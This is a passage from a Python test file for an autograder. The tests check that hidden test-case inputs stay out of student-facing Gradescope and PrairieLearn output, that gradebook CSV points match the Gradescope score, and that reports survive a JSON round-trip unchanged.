    hidden = {c.name for c in report.cases if not c.public}  # a hidden case's time is for staff only
    student_seen = [case | {"seconds": case["seconds"] if case["name"] not in hidden else None} for case in staff["cases"]]
    assert {k: v for k, v in staff.items() if k != "staff_only"} | {"cases": student_seen} == student
    text = render(report, "text", spec, Options(staff=True, verbose=True))
    assert all(inputs in text for inputs in hidden_inputs())
    for fmt in ("gradescope", "prairielearn"):  # what students read never holds it, even when staff ask
        assert not [inputs for inputs in hidden_inputs() if inputs in render(report, fmt, spec, Options(staff=True))]


# --- The batch's gradebook and feedback are these formats' numbers and files -----------------------


def every_report() -> dict[str, Report]:
    return {**reports(), "leaker": leaker_report(), "nasty": nasty_report()}


@pytest.mark.sandbox
@pytest.mark.parametrize("mode", ["all_or_nothing", "per_case"])
@pytest.mark.parametrize("points", [100.0, 10.0, 7.5])
def test_the_gradebooks_points_are_the_gradescope_score(mode, points):
    from grader.batch.discovery import Submission
    from grader.batch.gradebook import CSV_COLUMNS, Counting, csv_row
    from grader.batch.store import kept, result_line

    scoring = Scoring(mode, {"edge_shapes": 3.0} if mode == "per_case" else {})
    counting = Counting(scoring, points)
    totals = []
    for name, report in every_report().items():
        line = kept(result_line(Submission(name, Path(f"{name}.py")), "0" * 64, "spec", report))  # what a batch keeps of its line
        row = dict(zip(CSV_COLUMNS, csv_row(name, line, counting), strict=True))
        gradescope = to_gradescope(report, scoring, points)
        assert float(row["points"]) == gradescope["score"] == counting.marks(line).total, name
        assert float(row["max_points"]) == gradescope["extra_data"]["max_score"] == points
        assert (int(row["cases_passed"]), int(row["cases"])) == (sum(c.passed for c in report.cases), len(report.cases))
        totals.append(gradescope["score"])
    assert any(0 < total < points for total in totals) is (mode == "per_case")  # partial credit only where the spec gives it


@pytest.mark.sandbox
@pytest.mark.parametrize("fmt", FORMATS)
def test_a_report_read_back_from_a_results_line_renders_the_same_bytes(fmt):
    from grader.formats.json import from_json, to_json

    for staff in (False, True):
        options = Options(points=10, verbose=True, staff=staff)
        for name, report in {**reports(), "leaker": leaker_report()}.items():  # (a results line holds control characters already escaped)
            # A results line keeps timings as --json rounds them (ms to 0.1): only they may differ, so round them here too.
            report = dataclasses.replace(report, seconds=round(report.seconds, 3))
            report.cases = [dataclasses.replace(c, seconds=None if c.seconds is None else round(c.seconds, 4)) for c in report.cases]
            again = from_json(json.loads(json.dumps(to_json(report, staff=True))))
            assert render(again, fmt, load_spec(), options) == render(report, fmt, load_spec(), options), name
